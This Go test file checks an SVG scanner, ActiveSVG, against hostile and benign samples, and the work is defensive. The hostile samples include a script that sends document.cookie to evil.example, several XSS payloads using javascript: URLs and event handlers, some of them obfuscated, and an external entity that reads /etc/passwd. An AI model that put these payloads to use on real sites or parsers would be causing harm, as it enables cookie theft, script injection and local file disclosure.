package scan

import (
	"strings"
	"testing"
)

func TestActiveSVG(t *testing.T) {
	const open = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">`
	active := map[string]string{
		"script":         open + `<script>fetch("https://evil.example/"+document.cookie)</script></svg>`,
		"onload":         `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>`,
		"event on child": open + `<rect width="1" height="1" OnClick="alert(1)"/></svg>`,
		"javascript a":   open + `<a href="javascript:alert(1)"><text>x</text></a></svg>`,
		"spaced scheme":  open + `<a xlink:href="java&#x09;script:alert(1)"><text>x</text></a></svg>`,
		"foreignObject":  open + `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="x"/></body></foreignObject></svg>`,
		"xhtml":          open + `<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script></svg>`,
		"animate href":   open + `<a><animate attributeName="href" to="javascript:alert(1)"/><text>x</text></a></svg>`,
		"set handler":    open + `<set attributeName="onmouseover" to="alert(1)"/></svg>`,
		"external use":   open + `<use href="https://evil.example/x.svg#a"/></svg>`,
		"css import":     open + `<style>@import url(https://evil.example/x.css);</style></svg>`,
		"xslt":           `<?xml-stylesheet type="text/xsl" href="x.xsl"?>` + open + `</svg>`,
		"external ent":   `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>` + open + `<text>&x;</text></svg>`,
		"entity hides":   `<!DOCTYPE svg [<!ENTITY j "javascript">]>` + open + `<a href="&j;:alert(1)"><text>x</text></a></svg>`,
		"malformed":      open + `<rect width=1></svg>`,
	}
	for name, src := range active {
		if hits := ActiveSVG([]byte(src)); len(hits) == 0 {
			t.Errorf("%s: no hit in %s", name, src)
		} else if h := hits[0]; h.Off < 0 || h.End > len(src) || h.Off >= h.End {
			t.Errorf("%s: hit %d..%d outside the %d bytes", name, h.Off, h.End, len(src))
		}
	}
	inert := map[string]string{
		"shapes":      open + `<g fill="red"><rect width="1" height="1"/><circle r="2"/><path d="M0 0L1 1"/></g></svg>`,
		"gradient":    open + `<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs><rect fill="url(#g)" width="1" height="1"/></svg>`,
		"local use":   open + `<defs><path id="p" d="M0 0"/></defs><use xlink:href="#p"/></svg>`,
		"link out":    open + `<a href="https://example.com/docs"><text>docs</text></a></svg>`,
		"data image":  open + `<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/></svg>`,
		"style":       open + `<style>.a{fill:#333;font-family:sans-serif}</style><text class="a">x</text></svg>`,
		"doctype":     `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">` + open + `</svg>`,
		"illustrator": `<!DOCTYPE svg [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]><svg xmlns="&ns_svg;"><rect width="1" height="1"/></svg>`,
		"inkscape":    `<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" inkscape:version="1.3"><sodipodi:namedview id="n"/><metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"/></metadata><rect width="1" height="1"/></svg>`,
		"drawio":      open + `<foreignObject width="80" height="20"><div xmlns="http://www.w3.org/1999/xhtml" style="display:flex"><div><font color="#000">Deploy <b>step</b></font><br/></div></div></foreignObject></svg>`,
		"animation":   open + `<rect width="1" height="1"><animate attributeName="opacity" from="0" to="1" dur="1s"/></rect></svg>`,
	}
	for name, src := range inert {
		if hits := ActiveSVG([]byte(src)); len(hits) > 0 {
			t.Errorf("%s: %q at %q", name, hits[0].What, src[hits[0].Off:hits[0].End])
		}
	}
}

func TestActiveSVGBounded(t *testing.T) {
	src := `<svg xmlns="http://www.w3.org/2000/svg">` + strings.Repeat(`<rect onclick="x()"/>`, 10000) + `</svg>`
	if hits := ActiveSVG([]byte(src)); len(hits) != maxSVGHits {
		t.Errorf("%d hits, want the first %d", len(hits), maxSVGHits)
	}
}
